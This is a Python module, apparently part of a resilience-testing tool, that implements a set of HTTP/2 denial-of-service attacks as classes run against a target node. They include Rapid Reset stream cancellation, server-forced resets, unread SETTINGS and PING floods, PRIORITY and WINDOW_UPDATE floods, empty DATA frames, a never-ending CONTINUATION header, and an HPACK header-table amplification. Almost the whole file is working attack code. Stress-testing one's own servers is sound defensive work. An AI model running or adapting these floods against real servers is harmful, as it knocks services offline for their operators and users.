"""HTTP/2: frames that cost the client nothing, as many as are taken."""

import struct
import time

import h2

from .attack import Attack, connect

CANCEL = struct.pack(">I", 8)
REQUEST = h2.message("edge", "user", "flood")


class Flood(Attack):
    """Sends the same kind of frames, over a new connection whenever the server has ended one."""

    seconds = 8.0
    # A head that never ends, and frames of a stream, follow this.
    prelude = b""
    reads = True

    def frames(self, stream):
        """Frames, of which the first stream is `stream`, and the next stream."""
        raise NotImplementedError

    def run(self, until):
        sent = connections = 0
        while time.monotonic() < until:
            if not (client := connect(self.node.grpc, 0.5)):
                continue
            connections, stream = connections + 1, 1
            try:
                client.sendall(h2.PREFACE + h2.frame(h2.SETTINGS) + self.prelude)
                while time.monotonic() < until and stream < 2**31 - 1000:
                    part, stream = self.frames(stream)
                    client.sendall(part)
                    sent += len(part)
                    if self.reads:
                        self.drain(client)
            except OSError:
                pass
            client.close()
        return f"{sent / 2**20:,.1f} MiB of frames on {connections:,} connections"

    @staticmethod
    def drain(client):
        client.setblocking(False)
        try:
            while client.recv(65536):
                pass
            raise ConnectionResetError
        except BlockingIOError:
            pass
        finally:
            client.settimeout(0.5)


class RapidReset(Flood):
    name = "HTTP/2: requests that are reset at once"

    def frames(self, stream):
        body = REQUEST if self.random.random() < 0.5 else b""
        parts = []
        for each in range(stream, stream + 200, 2):
            parts.append(h2.frame(h2.HEADERS, h2.END_HEADERS, each, h2.head()))
            if body:
                parts.append(h2.frame(h2.DATA, h2.END_STREAM, each, body))
            parts.append(h2.frame(h2.RST_STREAM, 0, each, CANCEL))
        return b"".join(parts), stream + 200


class MadeReset(Flood):
    name = "HTTP/2: requests that the server has to reset"

    def frames(self, stream):
        wrong = h2.frame(h2.WINDOW_UPDATE, 0, 0, bytes(4))[9:]
        parts = [h2.whole(each, h2.head(), REQUEST) + h2.frame(h2.WINDOW_UPDATE, 0, each, wrong) for each in range(stream, stream + 100, 2)]
        return b"".join(parts), stream + 100


class Repeated(Flood):
    """The same frame again and again, of any stream."""

    def frames(self, stream):
        return self.repeated() * 1000, stream

    def repeated(self):
        raise NotImplementedError


class Settings(Repeated):
    name, reads = "HTTP/2: settings, and their acknowledgements never read", False

    def repeated(self):
        return h2.setting(4, self.random.randrange(65535, 2**20))


class Pings(Repeated):
    name, reads = "HTTP/2: pings, and their answers never read", False

    def repeated(self):
        return h2.frame(h2.PING, 0, 0, self.random.randbytes(8))


class Priorities(Repeated):
    name = "HTTP/2: priorities of streams that do not exist"

    def repeated(self):
        return h2.frame(h2.PRIORITY, 0, self.random.randrange(1, 2**31, 2), bytes(5))


class WindowUpdates(Repeated):
    name = "HTTP/2: window updates by a byte"

    def repeated(self):
        return h2.frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


class EmptyData(Repeated):
    name, prelude = "HTTP/2: empty data frames of a request", h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.head())

    def repeated(self):
        return h2.frame(h2.DATA, 0, 1)


class Continuation(Repeated):
    name, prelude = "HTTP/2: a head that never ends (continuation)", h2.frame(h2.HEADERS, 0, 1, h2.head())

    def repeated(self):
        field = h2.literal(f"x-{self.random.randrange(10**6)}", "v" * self.random.randrange(100))
        return h2.frame(h2.CONTINUATION, 0, 1, field if self.random.random() < 0.7 else b"")


class HeaderTable(Flood):
    name = "HTTP/2: a large field of the header table, named thousands of times"

    def frames(self, stream):
        # A literal with indexing, of 4,000 bytes; then one byte for each further use of it.
        large = b"\x40\x01a\x7f" + h2.varint(3900 - 127) + b"v" * 3900
        first = h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, h2.head() + large)
        return first + h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream + 2, h2.head() + b"\xbe" * 15000), stream + 4


ATTACKS = [RapidReset, MadeReset, Settings, Pings, Priorities, WindowUpdates, EmptyData, Continuation, HeaderTable]
